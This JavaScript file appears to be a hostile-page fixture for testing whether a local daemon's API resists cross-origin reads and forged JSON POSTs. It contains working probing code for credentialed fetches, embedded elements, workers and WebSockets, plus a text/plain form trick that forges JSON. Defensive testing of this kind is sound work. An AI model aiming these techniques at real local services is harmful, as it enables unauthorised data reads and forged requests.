// Script of a page that wishes the daemon ill; a browser runs it.

/**
 * Tries, from inside a page, everything a script can do to read from `base` without leave. Each entry tells what
 * the script got to see.
 */
async function plunder(base) {
  const loot = {};
  const within = (work) =>
    Promise.race([work, new Promise((resolve) => setTimeout(() => resolve('nothing came'), 2_500))]);
  const attempt = async (name, work) => {
    loot[name] = await within(work().catch((error) => `failed: ${String(error)}`));
  };
  const read = async (answer) => `${answer.type} ${answer.status} ${await answer.text()}`;
  const paths = ['/api/v1/fibers', '/api/v1/version', '/api/v1/state', '/'];
  const element = (tag, attributes) =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.addEventListener('load', () => {
        const inside = made.contentDocument?.documentElement?.textContent ?? '';
        resolve(`loaded ${made.naturalWidth ?? ''} ${inside}`);
      });
      made.addEventListener('error', () => resolve('failed'));
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.documentElement.append(made);
    });
  const work = paths.flatMap((path) => {
    const url = base + path;
    return [
      attempt(`fetch ${path}`, async () => read(await fetch(url))),
      attempt(`fetch with credentials ${path}`, async () =>
        read(await fetch(url, { credentials: 'include' })),
      ),
      attempt(`fetch no-cors ${path}`, async () => read(await fetch(url, { mode: 'no-cors' }))),
      attempt(`fetch HEAD ${path}`, async () => {
        const answer = await fetch(url, { method: 'HEAD' });
        return JSON.stringify([...answer.headers]);
      }),
      attempt(`XMLHttpRequest ${path}`, async () => {
        const call = new XMLHttpRequest();
        call.open('GET', url, false);
        call.send();
        return call.responseText;
      }),
      attempt(`img ${path}`, () => element('img', { src: url })),
      attempt(`img with CORS ${path}`, () => element('img', { src: url, crossorigin: 'anonymous' })),
      attempt(`script ${path}`, () => element('script', { src: url })),
      attempt(`module ${path}`, () => element('script', { src: url, type: 'module' })),
      attempt(`stylesheet ${path}`, () => element('link', { rel: 'stylesheet', href: url })),
      attempt(`video ${path}`, () => element('video', { src: url })),
      attempt(`object ${path}`, () => element('object', { data: url })),
      attempt(`iframe ${path}`, () => element('iframe', { src: url })),
      attempt(`sandboxed iframe ${path}`, () => element('iframe', { src: url, sandbox: 'allow-scripts' })),
      attempt(`EventSource ${path}`, () => {
        const source = new EventSource(url);
        return new Promise((resolve) => {
          source.onmessage = (event) => resolve(String(event.data));
          source.onerror = () => resolve('failed');
        });
      }),
      attempt(`worker ${path}`, async () => {
        new Worker(url);
        return 'started';
      }),
      attempt(`window ${path}`, async () => {
        const opened = window.open(url);
        await new Promise((resolve) => setTimeout(resolve, 1_500));
        const frames = opened === null ? 'no handle' : `${opened.length} frames`;
        const text = opened === null ? '' : opened.document.documentElement.textContent;
        opened?.close();
        return `${frames} ${text}`;
      }),
      attempt(`WebSocket ${path}`, () => {
        const socket = new WebSocket(url.replace('http', 'ws'));
        return new Promise((resolve) => {
          socket.onopen = () => resolve('opened');
          socket.onmessage = (event) => resolve(String(event.data));
          socket.onerror = () => resolve('failed');
        });
      }),
    ];
  });
  await Promise.all(work);
  return loot;
}

/**
 * Tries, from inside a page, everything a script can do to send a JSON text to `url` without leave. Answers what it
 * could read of the answers.
 */
async function strike(url, json) {
  const loot = {};
  const attempt = async (name, work) => {
    loot[name] = await work().catch((error) => `failed: ${String(error)}`);
  };
  const post = (init) => async () => {
    const answer = await fetch(url, { method: 'POST', body: json, ...init });
    return `${answer.type} ${answer.status} ${await answer.text()}`;
  };
  const asJson = { 'Content-Type': 'application/json' };
  const asText = { 'Content-Type': 'text/plain' };
  const submit = (enctype, name, value) => async () => {
    const frame = document.createElement('iframe');
    frame.name = `frame-${enctype}`;
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: url, enctype, target: frame.name });
    const field = document.createElement('input');
    Object.assign(field, { type: 'hidden', name, value });
    form.append(field);
    document.documentElement.append(frame, form);
    const outcome = new Promise((resolve) => {
      frame.addEventListener('load', () => resolve('answered'), { once: true });
      // The policy of the page itself may keep the form from being sent; then nothing is ever loaded.
      document.addEventListener(
        'securitypolicyviolation',
        ({ effectiveDirective }) => resolve(`forbidden by ${effectiveDirective}`),
        { once: true },
      );
    });
    form.submit();
    const became = await outcome;
    const inside = frame.contentDocument?.documentElement?.textContent ?? 'out of reach';
    // Another form with the same target would be answered in this frame.
    frame.remove();
    return became === 'answered' ? inside : became;
  };
  // A form of plain text can be made to be JSON: its one field is `name=value`.
  const half = json.length - 1;
  await attempt('fetch JSON', post({ headers: asJson }));
  await attempt('fetch JSON with credentials', post({ headers: asJson, credentials: 'include' }));
  await attempt('fetch JSON no-cors', post({ headers: asJson, mode: 'no-cors' }));
  await attempt('fetch text', post({ headers: asText }));
  await attempt('fetch text no-cors', post({ headers: asText, mode: 'no-cors' }));
  await attempt('fetch without a type', post({ body: new Blob([json]), mode: 'no-cors' }));
  await attempt('fetch keepalive', post({ headers: asText, mode: 'no-cors', keepalive: true }));
  await attempt(
    'fetch without referrer',
    post({ headers: asText, mode: 'no-cors', referrerPolicy: 'no-referrer' }),
  );
  await attempt('beacon', async () => String(navigator.sendBeacon(url, json)));
  await attempt('form text/plain', submit('text/plain', json.slice(0, half), `${json.slice(half)}`));
  await attempt('form multipart', submit('multipart/form-data', 'body', json));
  await attempt('form urlencoded', submit('application/x-www-form-urlencoded', 'body', json));
  await attempt('PUT', async () => String((await fetch(url, { method: 'PUT', body: json })).status));
  return loot;
}

globalThis.plunder = plunder;
globalThis.strike = strike;
